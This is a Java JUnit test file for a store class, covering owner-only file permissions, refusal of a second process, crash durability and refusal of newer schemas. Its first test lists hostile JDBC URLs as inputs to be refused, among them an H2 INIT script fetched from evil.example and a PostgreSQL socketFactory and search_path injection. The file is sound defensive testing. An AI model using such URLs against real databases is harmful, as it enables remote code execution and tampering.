package org.tributary.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.awaitility.Awaitility.await;
import static org.tributary.store.Sample.NOON;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.sql.Connection;
import java.time.Duration;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.tributary.model.Placement;

/** S21, S31, S34, S35: whose file it is, who may open it, and what a crash leaves. */
@Timeout(value = 120, unit = TimeUnit.SECONDS)
final class StoreTest {
    @TempDir
    private Path folder;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "jdbc:h2:mem:x;init=create table t(i int)",
                "jdbc:h2:file:/tmp/x;AUTO_SERVER=TRUE",
                "jdbc:h2:tcp://localhost/x",
                "jdbc:h2:ssl://localhost/x",
                "jdbc:h2:zip:/tmp/x.zip!/x",
                "jdbc:h2:file:/tmp/x;TRACE_LEVEL_FILE=3",
                "jdbc:postgresql:x",
                "jdbc:postgresql://localhost/x?socketFactory=org.evil.Factory",
                "jdbc:postgresql://localhost/x?loggerFile=/tmp/x&loggerLevel=TRACE",
                "jdbc:postgresql://localhost/x?options=-c%20search_path=evil",
                "jdbc:mysql://localhost/x"
            })
    void S21_a_url_that_asks_for_more_than_a_file_or_memory_is_refused_in_words(String url) {
        assertThatThrownBy(() -> Store.open(Store.Settings.at(url)))
                .isInstanceOf(StoreRefused.class)
                .hasMessageContaining("store.url");
    }

    @Test
    void S21_the_file_is_for_its_owner_alone() throws IOException {
        Path inside = folder.resolve("data");
        try (Store store = Store.open(at(inside.resolve("river")))) {
            assertThat(store.folder()).contains(inside);
            assertThat(mode(inside)).isEqualTo("rwx------");
            assertThat(mode(inside.resolve("river.mv.db"))).isEqualTo("rw-------");
        }
        try (var files = Files.list(inside)) {
            assertThat(files).as("no trace file").hasSize(1);
        }
    }

    private static String mode(Path file) throws IOException {
        return PosixFilePermissions.toString(Files.getPosixFilePermissions(file));
    }

    @Test
    void S35_a_second_process_is_refused_and_the_first_goes_on() throws Exception {
        Writer first = new Writer(folder.resolve("river"));
        try {
            first.awaitLines(3);
            assertThatThrownBy(() -> Store.open(at(folder.resolve("river"))))
                    .isInstanceOf(StoreInUse.class)
                    .hasMessageContaining("in use by another process");
            first.awaitLines(first.lines().size() + 3);
        } finally {
            first.kill();
        }
    }

    @Test
    void S31_what_was_committed_before_a_kill_is_there_once() throws Exception {
        Set<String> told = new HashSet<>();
        for (int kill = 0; kill < 4; kill++) {
            Writer writer = new Writer(folder.resolve("river"));
            writer.awaitLines(5 + kill * 9);
            writer.kill();
            told.addAll(writer.lines());
        }
        try (Store store = Store.open(at(folder.resolve("river")))) {
            assertThat(store.articles().known("bbc", told)).hasSameSizeAs(told);
            assertThat(store.articles().count())
                    .isEqualTo(store.stories().count())
                    .isBetween((long) told.size(), told.size() + 4L);
            assertThat(store.stories().lastSeq())
                    .isGreaterThanOrEqualTo(store.articles().count());
        }
    }

    @Test
    void S34_a_store_of_a_newer_release_is_refused_in_words() throws Exception {
        try (Store store = Store.open(at(folder.resolve("river")));
                Connection connection = store.dataSource().getConnection()) {
            connection
                    .createStatement()
                    .execute("INSERT INTO \"schema_history\" SELECT 99, '99', 'later', 'SQL', 'V99__later.sql', 1,"
                            + " 'x', CURRENT_TIMESTAMP, 1, TRUE");
        }
        assertThatThrownBy(() -> Store.open(at(folder.resolve("river"))))
                .isInstanceOf(StoreRefused.class)
                .hasMessageContaining("newer release");
    }

    @Test
    void an_old_store_opens_with_all_that_is_in_it() {
        long id;
        try (Store store = Store.open(at(folder.resolve("river")))) {
            id = store.stories().place(Sample.article("bbc", "1", "One", NOON), lane -> Placement.founds("new"));
        }
        try (Store store = Store.open(at(folder.resolve("river")))) {
            assertThat(store.stories().lastSeq()).isEqualTo(id);
            assertThat(store.articles().find(id)).isPresent();
            assertThat(store.stories().place(Sample.article("bbc", "2", "Two", NOON), lane -> Placement.founds("new")))
                    .isGreaterThan(id);
        }
    }

    private static Store.Settings at(Path file) {
        return Store.Settings.at("jdbc:h2:file:" + file);
    }

    /** A process of its own that places articles and says so, one line a commit, until it is killed. */
    static final class Writer {
        private final Path words;
        private final Process process;

        Writer(Path file) throws IOException {
            words = Files.createTempFile(file.getParent(), "words", ".txt");
            process = new ProcessBuilder(
                            Path.of(System.getProperty("java.home"), "bin", "java")
                                    .toString(),
                            "-Xmx256m",
                            "-cp",
                            System.getProperty("java.class.path"),
                            Writer.class.getName(),
                            file.toString())
                    .redirectError(ProcessBuilder.Redirect.DISCARD)
                    .redirectOutput(words.toFile())
                    .start();
        }

        public static void main(String[] args) {
            Store store = Store.open(at(Path.of(args[0])));
            long from = store.stories().lastSeq();
            for (long i = from; i < from + 100_000; i++) {
                String guid = "g" + i;
                store.stories()
                        .place(Sample.article("bbc", guid, "Text of " + guid, NOON), lane -> Placement.founds("new"));
                System.out.println(guid);
            }
        }

        /** What it said, whole lines only. */
        List<String> lines() throws IOException {
            String all = Files.readString(words);
            return all.substring(0, all.lastIndexOf('\n') + 1).lines().toList();
        }

        void awaitLines(int most) {
            await().atMost(Duration.ofSeconds(60)).until(() -> !process.isAlive() || lines().size() >= most);
            assertThat(process.isAlive()).isTrue();
        }

        void kill() throws InterruptedException {
            process.destroyForcibly().waitFor();
        }
    }
}
